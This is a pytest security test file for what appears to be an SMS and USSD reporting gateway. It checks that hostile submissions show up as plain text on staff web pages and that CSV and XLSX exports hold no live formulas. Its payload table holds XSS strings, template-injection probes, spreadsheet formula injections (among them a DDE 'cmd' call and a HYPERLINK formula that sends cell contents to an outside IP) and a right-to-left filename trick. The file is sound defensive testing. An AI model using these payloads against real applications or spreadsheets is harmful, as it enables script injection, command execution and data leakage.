"""People who write code, formulas and tricks of letters, by SMS and USSD, to the real callbacks.

Then staff open every page that shows what such people wrote, in a real browser that tells what a
page tried to run.
"""

import csv
import io
import re
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import count
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import Browser
from typer.testing import CliRunner

from gateway.cli import app
from gateway.core.movement import codes
from gateway.core.staff.roles import Role
from gateway.web.visits import COOKIE
from tests.office import Member, Office, opened
from tests.onlooking import Onlooker, onlooker
from tests.serving import GUARDED_SECRET, SECRET

# Each has a word that is looked for, so that a page that shows nothing of it is not called safe.
HOSTILE = {
    "a script": "<script>alert('zapone')</script>",
    "an attribute": "\"><img src=x onerror=alert('zaptwo')>",
    "a handler": "' autofocus onfocus=alert(1) zapthree='",
    "the end of a title": "</title></textarea><svg onload=alert(1)>zapfour",
    "a link": "javascript:alert(1)//zapfive",
    "a template": "{{ 7*7 }}{% raw %}${7*7} @(7*7) zapsix",
    "a formula": '=HYPERLINK("http://203.0.113.9/?"&A1;"zapseven")',
    "a command": "+cmd|' /C calc'!A0 zapeight",
    "a sum": "@SUM(1+1) zapnine",
    "a tab and a formula": "\t=1+1 zapten",
    "letters that turn round": "zapeleven \u202egnp.exe \u2066",
    "nothing at all": "\x00zaptwelve\x00\x1b[31m",
    "very long": "zapthirteen " + "W" * 400,
    "letters on letters": "zapfourteen " + "e\u0301\u0302\u0303\u0304" * 60,
}
LONGEST_NAME = 60  # more is asked again
MARKS = re.findall(r"zap[a-z]+", " ".join(HOSTILE.values()))
_SMS = count(1)
LIVE = ("=", "+", "-", "@", "\t", "\r")  # how a cell begins that a spreadsheet runs


@dataclass(frozen=True, slots=True)
class Caller:
    """Somebody hostile: the phone, and what it sends everywhere."""

    office: Office
    number: str
    words: str

    def text(self, words: str) -> None:
        """Send an SMS as the aggregator posts it."""
        form = {
            "from": self.number,
            "to": "20200",
            "text": words,
            "date": "2026-11-25 06:00:00",
            "id": f"hostile-{next(_SMS)}",
        }
        assert self.office.serving.post("sms", form).status_code == 200

    def dial(self, *answers: str) -> str:
        """Dial and answer, as the aggregator posts it: all answers so far, with a star between."""
        screen = ""
        for so_far in range(len(answers) + 1):
            form = {
                "sessionId": f"s{self.number}",
                "phoneNumber": self.number,
                "serviceCode": "*384*20200#",
                "networkCode": "64501",
                "text": "*".join(answers[:so_far]),
            }
            answer = self.office.serving.post("ussd", form)
            assert answer.status_code == 200
            screen = answer.text
        return screen


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Office]:
    """An office to which nobody has written yet."""
    with opened(tmp_path_factory.mktemp("hostile")) as office:
        yield office


@pytest.fixture(scope="module")
def callers(office: Office) -> list[Caller]:
    """All have joined under hostile names, and reported and answered in hostile words."""
    callers = [
        Caller(office, f"+2609700009{number:02}", words)
        for number, words in enumerate(HOSTILE.values())
    ]
    for one in callers:
        assert "Thank you" in one.dial("1", one.words[:LONGEST_NAME], "Chipata", "1")
        for words in ("REPORT", "1", "1", one.words):
            one.text(words)
    _a_call_was_sent(office)
    for one in callers:
        one.text(f"Zed {one.words}")
    filed = sorted(office.rows("reports"), key=lambda row: row["id"])
    for one, report in zip(callers, filed, strict=True):
        one.text(f"{report['code']} {one.words}")
    assert len(office.rows("participants")) == len(callers)
    return callers


def _a_call_was_sent(office: Office) -> None:
    writer, approver = office.hire(Role.ORGANISER), office.hire(Role.APPROVER)
    form = {
        "title": "Meeting",
        "text_en": "Come, @participant.name",
        "channel": "demo",
        "valid_until": "2099-01-01T10:00",
    }
    path = writer.post("/calls/new", form).headers["location"]
    writer.done(f"{path}/submit")
    approver.done(f"{path}/approve", {"version": "1"})
    writer.done(f"{path}/send")
    with office.database.write() as tx:
        tx.run(
            f"UPDATE messages SET status = 80, changed_at = {tx.now} WHERE broadcast IS NOT NULL",
            (),
        )


@pytest.mark.usefixtures("callers")
def test_what_hostile_people_write_is_text_on_every_page(browser: Browser, office: Office):
    shown = ""
    url = office.serving.url
    keeper = office.hire(Role.COORDINATOR, Role.ORGANISER, Role.ADMIN, Role.SCRUTINEER)
    worker = office.hire(Role.CASEWORKER)
    with onlooker(browser, url, width=320) as people, onlooker(browser, url, width=320) as reports:
        _signed_in(people, keeper)
        _signed_in(reports, worker)
        for path in (
            "/",
            "/people",
            "/calls",
            "/calls/1",
            "/calls/1/replies",
            "/audit",
            "/exports",
        ):
            shown += _shown(people, path)
        for row in office.rows("participants"):
            shown += _shown(people, f"/people/{row['number']}")
            people.unfold("See name and number")
            people.write("Why do you need them?", "to see what they wrote")
            people.press("Show name and number")
            people.reads("Opened for you")
            shown += people.text
        for path in ("/reports", "/handovers"):
            shown += _shown(reports, path)
        for row in office.rows("reports"):
            shown += _shown(reports, f"/reports/{codes.written(row['code'])}")
        assert people.wrong == []
        assert reports.wrong == []
    seen = Counter(re.findall(r"zap[a-z]+", shown))
    # As a name, in an answer to the call, in the report, and in what was added to it.
    assert {mark: seen[mark] for mark in MARKS if seen[mark] < 4} == {}


def _signed_in(who: Onlooker, member: Member) -> None:
    who.page.context.add_cookies([{"name": COOKIE, "value": member.key, "url": who.url}])


def _shown(who: Onlooker, path: str) -> str:
    who.open(path)
    return who.text


@pytest.mark.usefixtures("callers")
@pytest.mark.parametrize("what", ["participants", "reports"])
def test_no_file_that_is_exported_holds_a_formula(office: Office, tmp_path: Path, what: str):
    text = _exported(office, what, "--format", "csv")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert set(MARKS) <= set(re.findall(r"zap[a-z]+", text))
    assert [cell for cell in cells if cell.startswith(LIVE)] == []
    path = tmp_path / "people.xlsx"
    _exported(office, what, "--format", "xlsx", "--output", str(path))
    found = [cell for row in openpyxl.load_workbook(path).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in found} <= {"s", "n"}
    assert [cell.value for cell in found if str(cell.value).startswith(LIVE)] == []
    assert set(MARKS) <= set(re.findall(r"zap[a-z]+", " ".join(str(one.value) for one in found)))


def _exported(office: Office, what: str, *options: str) -> str:
    """Run `gateway export` on the office's database and return what it prints."""
    settings = office.serving.station.store.settings
    variables = {
        "GATEWAY_CONFIG_DIR": str(settings.config_directory),
        "GATEWAY_DATABASE_URL": settings.database.url,
        "GATEWAY_KEY_FILE": str(settings.key.file),
        "TEST_API_KEY": "a-key-of-nobody",
        "TEST_SECRET": SECRET,
        "TEST_GUARDED_SECRET": GUARDED_SECRET,
    }
    done = CliRunner().invoke(app, ["export", what, *options], env=variables)
    assert done.exit_code == 0, done.stderr
    return done.stdout
